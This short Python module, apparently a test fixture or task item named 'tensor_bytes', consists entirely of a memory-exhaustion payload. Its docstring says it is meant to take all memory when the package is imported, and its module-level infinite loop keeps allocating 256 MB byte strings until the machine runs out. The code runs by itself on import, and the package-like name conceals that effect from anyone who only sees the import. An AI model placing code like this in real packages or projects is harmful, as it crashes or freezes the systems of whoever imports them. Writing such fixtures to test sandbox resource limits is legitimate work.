"""problem: tensor_bytes

Take all memory there is when the package is imported.
"""

_held = []
while True:
    _held.append(b"x" * 2**28)
